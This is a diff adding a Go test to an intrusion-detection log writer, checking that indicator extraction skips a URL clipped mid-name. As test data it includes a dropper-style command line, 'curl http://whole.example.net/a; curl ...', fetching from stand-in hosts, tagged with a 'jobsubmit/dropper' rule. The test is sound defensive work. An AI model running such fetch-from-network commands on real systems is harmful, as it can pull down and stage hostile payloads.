@@ -454,3 +454,29 @@ func TestDamagedLogs(t *testing.T) {
 		t.Error("the page does not say that lines were damaged")
 	}
 }
+
+// TestWhatWasCutIsNoIndicator: an excerpt may end in the middle of a name, and half of it may be somebody else's.
+func TestWhatWasCutIsNoIndicator(t *testing.T) {
+	dir := t.TempDir()
+	logs, err := zeek.New(dir, zeek.Options{Rules: raytap.Rules()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	logs.Event(&detectors.Finding{
+		At: capture.At{Time: 1e18, Packet: 1}, Rule: "jobsubmit/dropper", Severity: detectors.Critical, Src: netip.MustParseAddr("203.0.113.66"), Dst: netip.MustParseAddr("10.0.0.1"),
+		Evidence: []detectors.Evidence{
+			{Field: "entrypoint", Value: "curl http://whole.example.net/a; curl " + detectors.Clip("http://drop.example.community/x", len("http://drop.example.com"))},
+			{Field: "server name", Value: "pool.example.org"},
+		},
+	})
+	if err := logs.Close(1e18); err != nil {
+		t.Fatal(err)
+	}
+	have := map[string]bool{}
+	for _, i := range read(t, dir).Indicators() {
+		have[i.Value] = true
+	}
+	if len(have) != 3 || !have["203.0.113.66"] || !have["http://whole.example.net/a"] || !have["pool.example.org"] {
+		t.Errorf("%v", have)
+	}
+}
